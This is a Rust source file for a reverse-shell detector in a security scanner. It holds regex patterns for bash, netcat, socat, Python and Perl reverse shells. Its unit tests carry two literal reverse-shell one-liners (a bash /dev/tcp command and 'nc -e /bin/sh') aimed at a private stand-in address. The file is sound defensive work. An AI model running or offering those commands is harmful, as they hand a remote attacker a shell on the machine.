//! Reverse-shell detector (spec.md §4.4.4). All matches are critical.

use regex::Regex;
use std::path::Path;
use std::sync::LazyLock;
use zephyr_schema::{Finding, Severity};

struct Family {
    id: &'static str,
    regex: LazyLock<Regex>,
    description: &'static str,
}

static FAMILIES: &[Family] = &[
    Family {
        id: "reverse_shell.bash_tcp",
        regex: LazyLock::new(|| Regex::new(r"bash\s+-i\s*>&\s*/dev/tcp/").expect("regex")),
        description: "bash TCP reverse shell",
    },
    Family {
        id: "reverse_shell.bash_udp",
        regex: LazyLock::new(|| Regex::new(r"/dev/udp/[\w.$-]+/\d+").expect("regex")),
        description: "bash UDP reverse shell",
    },
    Family {
        id: "reverse_shell.nc_exec",
        regex: LazyLock::new(|| Regex::new(r"\bnc\b[^\n]*-e\s+/bin/(sh|bash)").expect("regex")),
        description: "netcat with direct shell execution (-e)",
    },
    Family {
        id: "reverse_shell.socat_exec",
        regex: LazyLock::new(|| Regex::new(r"\bsocat\b[^\n]*EXEC:").expect("regex")),
        description: "socat with EXEC: addressing a shell",
    },
    Family {
        id: "reverse_shell.python_socket",
        regex: LazyLock::new(|| Regex::new(r#"python[23]?\s+-c\s+['"].*import\s+socket"#).expect("regex")),
        description: "inline Python socket-based reverse shell",
    },
    Family {
        id: "reverse_shell.perl_socket",
        regex: LazyLock::new(|| Regex::new(r#"perl\s+-e\s+['"].*use\s+Socket"#).expect("regex")),
        description: "inline Perl socket-based reverse shell",
    },
];

/// Scans a single line for any known reverse-shell family.
#[must_use]
pub fn scan_line(file: &Path, line_no: usize, line: &str) -> Option<Finding> {
    let family = FAMILIES.iter().find(|f| f.regex.is_match(line))?;
    Some(Finding {
        severity: Severity::Critical,
        pattern_id: family.id.to_string(),
        description: family.description.to_string(),
        file: file.to_path_buf(),
        line: line_no,
        snippet: line.trim().to_string(),
        bypass_hint: None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    #[test]
    fn detects_bash_tcp_reverse_shell() {
        let f = PathBuf::from("x.sh");
        let finding = scan_line(&f, 1, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").unwrap();
        assert_eq!(finding.pattern_id, "reverse_shell.bash_tcp");
    }

    #[test]
    fn detects_nc_exec() {
        let f = PathBuf::from("x.sh");
        assert!(scan_line(&f, 1, "nc -e /bin/sh 10.0.0.1 4444").is_some());
    }

    #[test]
    fn benign_line_has_no_match() {
        let f = PathBuf::from("x.sh");
        assert!(scan_line(&f, 1, "echo hello world").is_none());
    }
}
